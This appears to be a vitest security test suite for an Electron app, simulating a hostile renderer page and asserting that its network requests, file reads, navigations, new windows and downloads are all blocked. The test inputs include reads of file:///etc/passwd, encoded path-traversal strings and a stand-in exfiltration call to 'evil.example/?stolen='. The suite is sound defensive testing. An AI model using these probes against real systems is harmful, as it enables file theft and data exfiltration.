/**
 * A page in an attacker's hands, and the world outside: whatever it tries, nothing arrives there, no file is read,
 * no other program is opened, and it stays where it is.
 */
import { existsSync, readdirSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { openWindow, type AppWindow } from '../support/window.ts';
import { attack, isWell, startOutside, watchDeeds, type Deeds, type Outside } from './renderer-attack.ts';

let window: AppWindow;
let outside: Outside;
let deeds: () => Promise<Deeds>;
let before: Deeds & { arrivals: number };

beforeAll(async () => {
  outside = await startOutside();
  window = await openWindow();
  deeds = await watchDeeds(window);
});
beforeEach(async () => (before = { ...(await deeds()), arrivals: outside.arrivals() }));
afterAll(async () => {
  await window.close();
  await outside.close();
});

/** Nothing got out since the test began, and the program works on. */
async function expectNothing(): Promise<void> {
  expect(outside.arrivals()).toBe(before.arrivals);
  expect((await deeds()).opened).toEqual(before.opened);
  expect(await isWell(window)).toBe(true);
}

const settle = 'await new Promise((resolve) => setTimeout(resolve, 150));';
const element = (name: string, attributes: string): string =>
  `const element = document.createElement('${name}');
   try { Object.assign(element, ${attributes}); } catch (error) { return String(error.name); }
   document.body.append(element); ${settle} element.remove(); return 'tried';`;

const requests: readonly [string, string][] = [
  ['fetch', `await fetch(http); return 'loaded';`],
  ['fetch without an answer', `await fetch(http, { mode: 'no-cors' }); return 'loaded';`],
  ['fetch of a file', `await fetch('file:///etc/passwd'); return 'loaded';`],
  ['fetch of our own page', `await fetch('app://waxwing/index.html'); return 'loaded';`],
  ['fetch out of our folder', `await fetch('app://waxwing/../../etc/passwd'); return 'loaded';`],
  [
    'XMLHttpRequest',
    `const request = new XMLHttpRequest(); request.open('GET', http, false); request.send(); return 'loaded';`,
  ],
  [
    'XMLHttpRequest of a file',
    `const request = new XMLHttpRequest(); request.open('GET', 'file:///etc/passwd', false); request.send();
     return 'loaded';`,
  ],
  [
    'WebSocket',
    `const socket = new WebSocket(ws); return new Promise((resolve) => {
       socket.onopen = () => resolve('loaded'); socket.onerror = () => resolve('failed'); });`,
  ],
  [
    'EventSource',
    `const source = new EventSource(http); return new Promise((resolve) => {
       source.onopen = () => resolve('loaded'); source.onerror = () => resolve('failed'); });`,
  ],
  ['sendBeacon', `navigator.sendBeacon(http, 'x'); ${settle} return 'tried';`],
  ['WebTransport', `await new WebTransport(http.replace('http', 'https')).ready; return 'loaded';`],
  [
    'image',
    `const image = new Image(); image.src = http; return new Promise((resolve) => {
       image.onload = () => resolve('loaded'); image.onerror = () => resolve('failed'); });`,
  ],
  [
    'image from a file',
    `const image = new Image(); image.src = 'file:///usr/share/pixmaps/debian-logo.png';
     return new Promise((resolve) => {
       image.onload = () => resolve('loaded'); image.onerror = () => resolve('failed'); });`,
  ],
  ['script', element('script', '{ src: http }')],
  ['style sheet', element('link', `{ rel: 'stylesheet', href: http }`)],
  ['prefetch', element('link', `{ rel: 'prefetch', href: http }`)],
  ['preload', element('link', `{ rel: 'preload', as: 'image', href: http }`)],
  ['preconnect', element('link', `{ rel: 'preconnect', href: http }`)],
  ['module preload', element('link', `{ rel: 'modulepreload', href: http }`)],
  ['icon', element('link', `{ rel: 'icon', href: http }`)],
  ['manifest', element('link', `{ rel: 'manifest', href: http }`)],
  ['frame', element('iframe', '{ src: http }')],
  ['frame with a file', element('iframe', `{ src: 'file:///etc/passwd' }`)],
  ['object', element('object', '{ data: http }')],
  ['embed', element('embed', '{ src: http }')],
  ['video', element('video', '{ src: http, autoplay: true }')],
  ['audio', element('audio', '{ src: http, autoplay: true }')],
  ['poster', element('video', '{ poster: http }')],
  ['webview', element('webview', '{ src: http }')],
  [
    'background image',
    `document.body.style.backgroundImage = 'url(' + http + ')'; ${settle} return 'tried';`,
  ],
  ['font', `await new FontFace('x', 'url(' + http + ')').load(); return 'loaded';`],
  ['import()', `await import(http); return 'loaded';`],
  ['worker', `new Worker(http); return 'loaded';`],
  ['shared worker', `new SharedWorker(http); ${settle} return 'tried';`],
  ['service worker', `await navigator.serviceWorker.register('/index.html'); return 'loaded';`],
  [
    'form',
    `const form = document.createElement('form'); form.action = http; form.method = 'post';
     document.body.append(form); form.submit(); ${settle} form.remove(); return 'tried';`,
  ],
  [
    'WebRTC',
    `const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + port }] });
     connection.createDataChannel('x'); await connection.setLocalDescription(await connection.createOffer());
     await new Promise((resolve) => setTimeout(resolve, 500)); connection.close(); return 'tried';`,
  ],
  [
    'WebRTC over TCP',
    `const connection = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:' + port + '?transport=tcp',
       username: 'x', credential: 'x' }] });
     connection.createDataChannel('x'); await connection.setLocalDescription(await connection.createOffer());
     await new Promise((resolve) => setTimeout(resolve, 500)); connection.close(); return 'tried';`,
  ],
];

describe('nothing is loaded by', () => {
  test.each(requests)('%s', async (_name, code) => {
    const scope = `const port = argument; const http = 'http://127.0.0.1:' + port + '/x'; const ws = 'ws://127.0.0.1:' + port;`;
    expect(await attack(window, `${scope} ${code}`, outside.port)).not.toBe('loaded');
    await expectNothing();
  });
});

test('the scripts above do reach the outside where nothing stops them', async () => {
  const arrivals = outside.arrivals();
  await window.app.evaluate(
    (_electron, port) => fetch(`http://127.0.0.1:${String(port)}/`).catch(() => undefined),
    outside.port,
  );
  expect(outside.arrivals()).toBeGreaterThan(arrivals);
});

describe('it stays on its page when it goes to', () => {
  test.each([
    ['http://127.0.0.1:1/'],
    ['https://example.org/'],
    ['file:///etc/passwd'],
    ['about:blank'],
    ['data:text/html,<p>x'],
    ['javascript:document.write(1)'],
    ['app://evil/'],
    ['app://waxwing/assets/'],
    ['app://waxwing/../../etc/passwd'],
    ['blob:app://waxwing/00000000-0000-0000-0000-000000000000'],
    ['view-source:file:///etc/passwd'],
    ['chrome://gpu'],
    ['devtools://devtools/bundled/inspector.html'],
    ['mailto:mallory@evil.example'],
    ['xmpp:mallory@evil.example'],
    ['smb://evil.example/share'],
  ])('%s', async (url) => {
    const ways = [
      'location.href = argument;',
      'location.replace(argument);',
      `const link = document.createElement('a'); link.href = argument; document.body.append(link); link.click(); link.remove();`,
      `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + argument;
       document.head.append(meta);`,
      `const form = document.createElement('form'); form.action = argument; form.target = '_top';
       document.body.append(form); form.submit(); form.remove();`,
    ];
    for (const way of ways) {
      // It may get as far as about:blank; then it is brought back, and says nothing in between.
      await attack(window, `${way} ${settle}`, url).catch(() => undefined);
      await expectNothing();
    }
  });
});

describe('new windows', () => {
  test.each([
    ['file:///etc/passwd'],
    ['about:blank'],
    ['app://waxwing/'],
    ['javascript:alert(1)'],
    ['data:text/html,<p>x'],
    ['smb://evil.example/share'],
    ['https://user:password@evil.example/'],
  ])('%s is refused without a word', async (url) => {
    const seen = await attack(
      window,
      `const opened = window.open(argument, '_blank', 'nodeIntegration=yes,contextIsolation=no'); ${settle}
       return opened;`,
      url,
    );
    expect(seen).toBeNull();
    expect((await deeds()).asked).toEqual(before.asked);
    expect(await window.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
    await expectNothing();
  });

  test('a web address without a press of a button is asked about once, and opened only with consent', async () => {
    await attack(
      window,
      `for (let count = 0; count < 50; count += 1) window.open('https://evil.example/?stolen=' + count); ${settle}`,
    );
    expect((await deeds()).asked).toEqual([...before.asked, 'Open this address?']);
    await expectNothing();
  });

  test('a link that a person clicks opens elsewhere, once', async () => {
    await attack(
      window,
      `const link = document.createElement('a'); link.id = 'link'; link.href = 'https://example.org/a'; link.target = '_blank';
       link.textContent = 'link'; link.style.cssText = '';
       link.style.position = 'fixed'; link.style.inset = '0'; link.style.zIndex = '9999'; document.body.append(link);
       link.addEventListener('click', () => { for (let n = 0; n < 9; n += 1) window.open('https://evil.example/'); });`,
    );
    await window.page.mouse.click(200, 200);
    await attack(window, `${settle} document.getElementById('link').remove();`);
    const { opened } = await deeds();
    expect(opened.slice(before.opened.length)).toHaveLength(1);
    expect(await isWell(window)).toBe(true);
  });
});

test('the session loads nothing but our pages, even without their policy', async () => {
  const urls = [
    `http://127.0.0.1:${String(outside.port)}/`,
    `http://localhost:${String(outside.port)}/`,
    'https://example.org/',
    'file:///etc/passwd',
    'app://evil/',
    'chrome://version/',
  ];
  const seen = await window.app.evaluate(
    ({ session }, addresses) =>
      Promise.all(
        addresses.map((address) =>
          session.defaultSession.fetch(address).then(
            ({ status }) => status,
            () => 'failed',
          ),
        ),
      ),
    urls,
  );
  expect(seen).toEqual(urls.map(() => 'failed'));
  await expectNothing();
});

test('no path leads out of the folder that is served', async () => {
  const paths = [
    '../../etc/passwd',
    '..%2f..%2fetc/passwd',
    '%2e%2e/package.json',
    '/etc/passwd',
    'main.js',
    '../main.js',
  ];
  const statuses = await window.app.evaluate(
    ({ session }, addresses) =>
      Promise.all(addresses.map(async (address) => (await session.defaultSession.fetch(address)).status)),
    paths.map((path) => `app://waxwing/${path}`),
  );
  expect(statuses).toEqual(paths.map(() => 404));
  const page = await window.app.evaluate(async ({ session }) => {
    const { status, headers } = await session.defaultSession.fetch('app://waxwing/');
    return { status, policy: headers.get('content-security-policy') };
  });
  expect(page).toEqual({ status: 200, policy: expect.stringContaining("connect-src 'none'") as string });
});

test('nothing is saved without the person', async () => {
  const downloads = join(homedir(), 'Downloads');
  const list = (): string[] => (existsSync(downloads) ? readdirSync(downloads).sort() : []);
  const saved = list();
  await window.app.evaluate(({ session }) => {
    session.defaultSession.on('will-download', (event) =>
      Object.assign(globalThis, { isStopped: event.defaultPrevented }),
    );
  });
  await attack(
    window,
    `const link = document.createElement('a'); link.download = 'evil.sh';
     link.href = URL.createObjectURL(new Blob(['#!/bin/sh'])); document.body.append(link); link.click(); ${settle}`,
  );
  expect(await window.app.evaluate(() => (globalThis as unknown as { isStopped?: boolean }).isStopped)).toBe(
    true,
  );
  expect(list()).toEqual(saved);
  await expectNothing();
});
